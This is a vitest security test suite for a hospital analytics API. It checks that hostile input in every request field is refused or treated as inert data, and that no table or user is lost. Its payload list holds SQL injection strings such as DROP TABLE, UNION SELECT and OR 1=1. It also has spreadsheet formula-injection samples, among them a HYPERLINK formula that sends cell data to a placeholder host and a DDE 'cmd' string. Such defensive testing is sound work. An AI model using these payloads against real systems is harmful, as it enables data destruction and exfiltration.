// Security battery, part 2: hostile text in every string a client sends. A field the schema checks
// is refused with a 400 naming the field; a field that carries a value (a filter's literal, a cell,
// a username, a display name, a department) is that value and nothing more: it matches no rows,
// logs no one in and widens nothing. Afterwards every warehouse table and every user is still there.
import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvField } from './export/table-export.ts';
import { startHospitalServer, type ApiClient, type HospitalServer } from './testing/hospital-server.ts';

let server: HospitalServer;
let admin: ApiClient;
let xinnei: ApiClient;
let tablesBefore: Map<string, number>;
let usersBefore: string[];

const long = 'x'.repeat(10_000);
const payloads = [
  "'; DROP TABLE admissions; --", '" OR 1=1 --', "0101' OR '1'='1", '$1', '\u0000', long,
  "心血管内科'); DELETE FROM users; --", "0101' UNION SELECT patient_id FROM admissions --", '0101\\', "急诊科' OR department <> '", '%',
];
const shown = (p: string) => JSON.stringify(p.length > 60 ? `${p.slice(0, 20)}…(${p.length})` : p);
const literal = (p: string) => `'${p.replaceAll("'", "''")}'`;

async function tableCounts(): Promise<Map<string, number>> {
  const db = server.warehouse.db;
  // Every database the warehouse instance holds: the file's and the rollups' (attached in memory).
  const tables = (await db.runAndReadAll(`SELECT table_catalog = current_database() AS own, table_catalog, table_schema, table_name FROM information_schema.tables
    WHERE table_schema IN ('main', 'hbi', 'rejects') ORDER BY 1, 2, 3, 4`)).getRowObjectsJS();
  const counts = new Map<string, number>();
  for (const t of tables) {
    const name = `${t.own ? '' : `"${String(t.table_catalog)}".`}${String(t.table_schema)}."${String(t.table_name)}"`;
    counts.set(name, Number((await db.runAndReadAll(`SELECT count(*) FROM ${name}`)).getRows()[0]![0]));
  }
  return counts;
}

beforeAll(async () => {
  server = await startHospitalServer();
  admin = await server.login('admin');
  xinnei = await server.login('xinnei');
  tablesBefore = await tableCounts();
  usersBefore = (await server.store.users.list()).map((u) => u.username).sort();
}, 120_000);
afterAll(async () => {
  await server?.close();
});

/** A 400 naming `field` (the schema caught it). */
function expectFieldRefused(response: LightMyRequestResponse, field: string, label: string) {
  expect(response.statusCode, `${label}: ${response.body.slice(0, 300)}`).toBe(400);
  expect(response.json().message, label).toContain(field);
}
/** A 400 naming the path parameter, or a 404 or 414 when it is too long to match a route at all. */
function expectParamRefused(response: LightMyRequestResponse, field: string, payload: string, label: string) {
  if (encodeURIComponent(payload).length > 100) expect([400, 404, 414], label).toContain(response.statusCode);
  else expectFieldRefused(response, field, label);
}

describe('fields the schema checks', () => {
  it.each(payloads.map((p) => [shown(p), p]))('refuse %s with a 400 naming the field', async (_, p) => {
    const q = (body: object) => admin.call('POST', '/api/query', { metrics: ['discharges'], ...body });
    expectFieldRefused(await admin.call('POST', '/api/query', { metrics: [p] }), 'body/metrics/0', 'metrics');
    expectFieldRefused(await q({ dimensions: ['department', p] }), 'body/dimensions/1', 'dimensions');
    expectFieldRefused(await q({ timeRange: { from: p, to: '2025-01-31' } }), 'body/timeRange', 'timeRange.from');
    expectFieldRefused(await q({ timeRange: { from: '2025-01-01', to: p } }), 'body/timeRange', 'timeRange.to');
    expectFieldRefused(await q({ timeRange: { relative: p } }), 'body/timeRange', 'timeRange.relative');
    expectFieldRefused(await q({ asOf: p }), 'body/asOf', 'asOf');
    expectFieldRefused(await q({ dimensions: ['time'], grain: p }), 'body/grain', 'grain');
    expectFieldRefused(await q({ compare: [p] }), 'body/compare/0', 'compare');
    expectFieldRefused(await admin.call('POST', '/api/query/export?format=csv', { metrics: [p] }), 'body/metrics/0', 'export metrics');
    expectFieldRefused(await admin.call('POST', `/api/query/export?format=${encodeURIComponent(p)}`, { metrics: ['discharges'] }), 'querystring/format', 'format');
    expectFieldRefused(await admin.call('POST', `/api/query?sql=${encodeURIComponent(p)}`, { metrics: ['discharges'] }), 'querystring/sql', 'sql');
    expectFieldRefused(await admin.call('POST', '/api/query/detail', { metric: p }), 'body/metric', 'detail metric');
    expectFieldRefused(await admin.call('POST', '/api/query/detail', { metric: 'discharges', cell: { [p]: '0101' } }), 'body/cell', 'cell key');
    expectFieldRefused(await admin.call('POST', '/api/query/detail/export?format=csv', { metric: p }), 'body/metric', 'detail export metric');
    expectFieldRefused(await admin.call('POST', '/api/query/detail/export?format=xlsx', { metric: 'discharges', cell: { [p]: '0101' } }), 'body/cell', 'detail export cell key');
    for (const param of ['action', 'from', 'to', 'offset', 'limit']) {
      expectFieldRefused(await admin.call('GET', `/api/audit?${param}=${encodeURIComponent(p)}`), `querystring/${param}`, `audit ${param}`);
    }
    expectFieldRefused(await admin.call('POST', '/api/users', { username: p, displayName: 'x', role: 'analyst', password: 'long enough password' }), 'body/username', 'new username');
    expectFieldRefused(await admin.call('POST', '/api/users', { username: 'probe', displayName: 'x', role: p, password: 'long enough password' }), 'body/role', 'new role');
    const policies = (await admin.call('GET', '/api/access/policies')).json<{ rowPolicies: object[]; columnRules: object[] }>();
    expectFieldRefused(await admin.call('PUT', '/api/access/policies', { ...policies, columnRules: [{ role: 'analyst', dataset: p, column: 'patient_id' }] }), 'body/columnRules/0/dataset', 'rule dataset');
    expectFieldRefused(await admin.call('PUT', '/api/access/policies', { ...policies, columnRules: [{ role: 'analyst', dataset: 'admissions', column: p }] }), 'body/columnRules/0/column', 'rule column');
    expectFieldRefused(await admin.call('PUT', '/api/access/policies', { ...policies, rowPolicies: [{ role: 'analyst', dimension: p, userAttribute: 'department' }] }), 'body/rowPolicies/0/dimension', 'policy dimension');
    expectFieldRefused(await admin.call('PUT', '/api/access/policies', { ...policies, rowPolicies: [{ role: 'analyst', dimension: 'department', userAttribute: p }] }), 'body/rowPolicies/0/userAttribute', 'policy attribute');
  });

  it.each(payloads.map((p) => [shown(p), p]))('refuse %s as a path parameter', async (_, p) => {
    const segment = encodeURIComponent(p);
    expectParamRefused(await xinnei.call('GET', `/api/catalogue/metrics/${segment}`), 'params/name', p, 'metric name');
    for (const url of [`/api/loads/${segment}`, `/api/loads/${segment}/rejects`, `/api/loads/${segment}/rejects.csv`]) {
      expectParamRefused(await admin.call('GET', url), 'params/loadId', p, url);
    }
    for (const url of [`/api/jobs/${segment}`, `/api/jobs/${segment}/events`]) expectParamRefused(await admin.call('GET', url), 'params/jobId', p, url);
    expectParamRefused(await admin.call('POST', `/api/datasets/${segment}/uploads`, {}), 'params/dataset', p, 'upload dataset');
    expectParamRefused(await admin.call('PATCH', `/api/users/${segment}`, { displayName: 'x' }), 'params/username', p, 'patch user');
    expectParamRefused(await admin.call('DELETE', `/api/users/${segment}`), 'params/username', p, 'delete user');
  });
});

describe('fields that carry a value', () => {
  it.each(payloads.map((p) => [shown(p), p]))('treat %s in a filter or a cell as a plain value that matches no rows', async (_, p) => {
    const byDepartment = (client: ApiClient, body: object) => client.call('POST', '/api/query', { metrics: ['discharges'], dimensions: ['department'], ...body });
    // as the filter itself: unreadable (400), or a filter no row passes; never all rows
    const raw = await byDepartment(admin, { where: p });
    if (raw.statusCode === 200) expect(raw.json().rows, 'where').toEqual([]);
    else expectFieldRefused(raw, p.length > 4000 ? 'body/where' : 'where', 'where');
    for (const deep of ['('.repeat(1500) + literal(p).slice(0, 1000) + ')'.repeat(1500), `${'not '.repeat(900)}department = ${literal(p).slice(0, 400)}`]) {
      // nesting deep enough to exhaust a recursive parser or planner is refused, not a crash
      const response = await byDepartment(admin, { where: deep });
      expectFieldRefused(response, 'where', 'deeply nested where');
    }
    for (const where of [`department = ${literal(p)}`, `ward = ${literal(p)}`, `department = '0101'' OR ''1''=''1'`]) {
      const response = await byDepartment(admin, { where });
      if (where.length > 4000) { expectFieldRefused(response, 'body/where', where.slice(0, 30)); continue; }
      expect(response.statusCode, `${where}: ${response.body.slice(0, 200)}`).toBe(200);
      expect(response.json().rows, where).toEqual([]);
      const drill = await admin.call('POST', '/api/query/detail', { metric: 'discharges', where });
      expect(drill.json().total, where).toBe(0);
    }
    // a department analyst listing other departments next to a hostile one still sees only its own
    if (p.length <= 4000) {
      const own = await byDepartment(xinnei, { where: `department in ('0901', ${literal(p)}, '0101')` });
      expect(own.json().rows.map((r: { department: string }) => r.department)).toEqual(['0101']);
    }
    const order = await byDepartment(admin, { order: [{ by: p }] });
    expectFieldRefused(order, p.length > 100 ? 'body/order/0/by' : 'cannot order by', 'order.by');
    for (const cell of [{ department: p }, { ward: p, department: '0101' }]) {
      const drill = await admin.call('POST', '/api/query/detail', { metric: 'discharges', cell });
      if (p.length > 200) { expectFieldRefused(drill, 'body/cell', 'cell value'); continue; }
      expect(drill.statusCode, drill.body.slice(0, 200)).toBe(200);
      expect(drill.json()).toMatchObject({ total: 0, rows: [] });
    }
  });

  it.each(payloads.map((p) => [shown(p), p]))('log no one in with %s as username or password', async (_, p) => {
    let address = 0;
    const login = (username: string, password: string) => server.app.inject({
      method: 'POST', url: '/api/session', payload: { username, password }, remoteAddress: `10.1.${payloads.indexOf(p)}.${++address}`,
    });
    for (const [username, password] of [[p, 'whatever'], [`admin${p}`, server.passwords.admin!], ['admin', p], ['yuanban', p]] as const) {
      const response = await login(username, password);
      expect(response.cookies, `${shown(username)} / ${shown(password)}`).toEqual([]);
      if (username.length > 64) expectFieldRefused(response, 'body/username', 'login username');
      else if (password.length > 256) expectFieldRefused(response, 'body/password', 'login password');
      else expect([401, 429], `${shown(username)}: ${response.body}`).toContain(response.statusCode);
    }
    const audit = await admin.call('GET', `/api/audit?action=login_failed&username=${encodeURIComponent(p)}`);
    if (p.length > 64) expectFieldRefused(audit, 'querystring/username', 'audit username');
    else expect(audit.json(), 'a username is a value: the failed logins are logged with no user').toEqual({ total: 0, entries: [] });
    const preview = await admin.call('POST', '/api/access/preview', { username: p, query: { metrics: ['discharges'] } });
    if (p.length > 64) expectFieldRefused(preview, 'body/username', 'preview username');
    else expect(preview.statusCode).toBe(404);
  });

  it('records failed logins with the hostile username as plain text', async () => {
    const { entries } = (await admin.call('GET', '/api/audit?action=login_failed&limit=1000')).json<{ entries: { detail: { username: string } }[] }>();
    const named = new Set(entries.map((e) => e.detail.username));
    for (const p of payloads.filter((x) => x.length <= 64)) expect(named.has(p), shown(p)).toBe(true);
  });

  it.each(payloads.map((p, i) => [shown(p), p, i]))('store %s as a display name or department as it is, and such a department sees no rows', async (_, p, i) => {
    const username = `probe_${i}`;
    const password = 'a long enough password';
    const created = await admin.call('POST', '/api/users', { username, displayName: p, role: 'analyst', department: p, password });
    if (p.length > 64) {
      expectFieldRefused(created, 'body/displayName', 'display name');
      expectFieldRefused(await admin.call('POST', '/api/users', { username, displayName: 'probe', role: 'analyst', department: p, password }), 'body/department', 'department');
      return;
    }
    expect(created.statusCode, created.body).toBe(201);
    expect(created.json()).toMatchObject({ username, displayName: p, department: p });
    expect(await server.store.users.get(username)).toMatchObject({ displayName: p, department: p });
    try {
      const session = await server.app.inject({ method: 'POST', url: '/api/session', payload: { username, password } });
      expect(session.statusCode, session.body).toBe(200);
      const headers = { cookie: `hbi_session=${session.cookies.find((c) => c.name === 'hbi_session')!.value}`, 'x-csrf-token': session.json().csrfToken as string };
      const asProbe = (url: string, payload: object) => server.app.inject({ method: 'POST', url, headers, payload });
      const rows = await asProbe('/api/query', { metrics: ['discharges'], dimensions: ['department'] });
      expect(rows.statusCode, rows.body).toBe(200);
      expect(rows.json().rows).toEqual([]);
      expect((await asProbe('/api/query/detail', { metric: 'discharges' })).json().total).toBe(0);
      const changed = await admin.call('PATCH', `/api/users/${username}`, { displayName: `${p} (2)`, department: `${p}'` });
      expect(changed.json()).toMatchObject({ displayName: `${p} (2)`, department: `${p}'` });
    } finally {
      expect((await admin.call('DELETE', `/api/users/${username}`)).statusCode).toBe(204);
    }
  });
});

describe('text cells of CSV exports (detail exports, rejects.csv with raw extract values)', () => {
  it('never start a spreadsheet formula, while numbers stay numbers', () => {
    for (const text of ['=1+1', '+1+1', '@SUM(A1:A2)', '\t=1+1', '-cmd', "-1+cmd|' /C calc'!A0", '-2+3', '-1+HYPERLINK("http://x.test/?"&A1,"病历")']) {
      expect(csvField(text).replace(/^"/, ''), JSON.stringify(text)).toMatch(/^'/);
    }
    for (const number of ['-930.87', '-5', '0101', '42.5', '2024-02-30']) expect(csvField(number)).toBe(number);
  });
});

describe('after every payload', () => {
  it('the warehouse still has every table with every row, and the store every user', async () => {
    const after = await tableCounts();
    expect([...after.keys()]).toEqual([...tablesBefore.keys()]);
    expect(after).toEqual(tablesBefore);
    expect(tablesBefore.get('main."admissions"')).toBeGreaterThan(10_000);
    expect((await server.store.users.list()).map((u) => u.username).sort()).toEqual(usersBefore);
    expect(usersBefore).toEqual(['admin', 'jizhen', 'xinnei', 'yiwuchu', 'yuanban']);
    expect((await server.store.policies.rowPolicies()).length).toBe(1);
    // the demo users can still log in, and see what they saw
    const analyst = await server.login('jizhen');
    expect((await analyst.call('POST', '/api/query', { metrics: ['discharges'], dimensions: ['department'] })).json().rows.map((r: { department: string }) => r.department)).toEqual(['0901']);
  });
});
